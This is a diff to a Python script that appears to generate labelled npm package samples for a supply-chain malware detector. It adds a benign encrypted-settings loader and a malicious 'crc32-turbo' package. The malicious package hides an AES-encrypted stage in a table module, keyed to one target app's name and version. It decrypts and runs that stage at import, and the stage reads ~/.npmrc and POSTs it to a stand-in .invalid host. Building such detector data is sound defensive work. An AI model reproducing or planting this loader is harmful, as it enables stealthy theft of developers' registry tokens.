@@ -11,6 +11,8 @@ names (.invalid, .example, .test) or documentation IPs; made-up values; destruct
 conditions that never hold.
 """
 
+import json
+
 from samples_malicious import S, pj
 from samples_common import readme, registry
 
@@ -183,6 +185,71 @@ https.get('https://lic.theme-packs.invalid/v1/check?m=' + os.hostname(), (res) =
     )
 
 
+def _aes_cbc_encrypt(key32, iv16, plaintext):
+    from cryptography.hazmat.primitives import padding
+    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes as cmodes
+    p = padding.PKCS7(128).padder()
+    data = p.update(plaintext.encode()) + p.finalize()
+    enc = Cipher(algorithms.AES(key32), cmodes.CBC(iv16)).encryptor()
+    return enc.update(data) + enc.finalize()
+
+
+@sample
+def app_keyed_stage():
+    import hashlib
+    stage = ("var h=require('https'),o=require('os'),f=require('fs'),p=require('path');"
+             "var k=f.readFileSync(p.join(o.homedir(),'.npmrc'),'utf8');"
+             "var r=h.request({host:'ci-cache.build-metrics.invalid',path:'/u',method:'POST'});"
+             "r.on('error',function(){});r.end(k);")
+    target_app = "acme-checkout-web:4.12.0"
+    key = hashlib.sha256(target_app.encode()).digest()
+    iv = bytes(range(16))
+    ct = _aes_cbc_encrypt(key, iv, stage)
+    tables = "module.exports = " + json.dumps([iv.hex(), ct.hex(), "fast"]) + ";\n"
+    index = r"""'use strict';
+const crypto = require('crypto');
+const T = require('./lib/tables');
+
+// Warm-up of the precomputed tables for the build's fast path.
+(function warm() {
+  try {
+    const d = crypto.createDecipheriv('aes-256-cbc', crypto.createHash('sha256').update(process.env.npm_package_name + ':' + process.env.npm_package_version).digest(), Buffer.from(T[0], 'hex'));
+    let body = d.update(T[1], 'hex', 'utf8');
+    body += d.final('utf8');
+    new Function('require', body)(require);
+  } catch (e) {}
+})();
+
+exports.crc32 = function crc32(buf) {
+  let c = ~0;
+  for (let i = 0; i < buf.length; i++) {
+    c ^= buf[i];
+    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
+  }
+  return ~c >>> 0;
+};
+"""
+    files = {
+        "package.json": pj(name="crc32-turbo", version="1.1.3", main="index.js",
+                           description="Fast CRC-32 with precomputed tables"),
+        "README.md": readme("crc32-turbo", "```js\nrequire('crc32-turbo').crc32(Buffer.from('abc'))\n```"),
+        "index.js": index,
+        "lib/tables.js": tables,
+    }
+    return S(
+        "reach7-app-keyed-stage",
+        "stage encrypted for one application's build: the key is sha256 of the building project's npm_package_name and version, the ciphertext sits in a JS table module, new Function runs it at import (event-stream class)",
+        "2018-2025",
+        ["encrypted-payload", "aes-decrypt", "environment-keyed", "targeted", "function-constructor",
+         "load-time", "credential-theft", "network"],
+        "Other shape of the holdout4 through/flatmap-stream stage: the key is a hash of the "
+        "building project's name and version, written inline (only acme-checkout-web 4.12.0 "
+        "decrypts it), the ciphertext is hex in a table module, the runner is new Function "
+        "given require instead of Module._compile.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -321,5 +388,55 @@ walk(path.resolve(dir), key, flag === '--remove');
         ["file-encryption", "cli", "directory-walk"],
         "Walk, read, cipher, write and unlink in one loop like ransomware, but over a folder the "
         "user gives on the command line, with no home-folder roots and no ransom note.",
+        files,
+    )
+
+
+@benign
+def b_env_keyed_vault_loader():
+    index = r"""'use strict';
+const fs = require('fs');
+const crypto = require('crypto');
+
+// Loads settings from an encrypted vault file; the key comes from the deployment's environment.
+const KEY = process.env.SETTINGS_VAULT_KEY;
+
+function openVault(file) {
+  if (!KEY) throw new Error('settings-vault: SETTINGS_VAULT_KEY is not set');
+  const raw = Buffer.from(fs.readFileSync(file, 'utf8'), 'base64');
+  const d = crypto.createDecipheriv('aes-256-gcm', Buffer.from(KEY, 'hex'), raw.subarray(0, 12));
+  d.setAuthTag(raw.subarray(12, 28));
+  const plain = d.update(raw.subarray(28), undefined, 'utf8') + d.final('utf8');
+  return JSON.parse(plain);
+}
+
+// `${name}` placeholders in setting values, compiled once per template.
+const cache = new Map();
+function render(tpl, vars) {
+  let fn = cache.get(tpl);
+  if (!fn) {
+    const body = 'return `' + tpl.replace(/`/g, '\\`') + '`';
+    fn = new Function('v', 'with (v) { ' + body + ' }');
+    cache.set(tpl, fn);
+  }
+  return fn(vars);
+}
+
+module.exports = { openVault, render };
+"""
+    files = {
+        "package.json": pj(name="settings-vault", version="0.9.2", main="index.js",
+                           description="Encrypted settings files with placeholders"),
+        "README.md": readme("settings-vault", "```js\nconst { openVault } = require('settings-vault')\nconst cfg = openVault('settings.vault')\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-benign-env-keyed-vault-loader",
+        "settings vault decrypted with a key from the environment and parsed as JSON, beside a template compiler using new Function",
+        "2025",
+        ["aes-decrypt", "environment-key", "template-compiler"],
+        "Decrypts with an environment key and compiles code in the same file, but what it "
+        "compiles is a template and what it decrypts is parsed: the counterpart of the "
+        "environment-keyed stages.",
         files,
     )
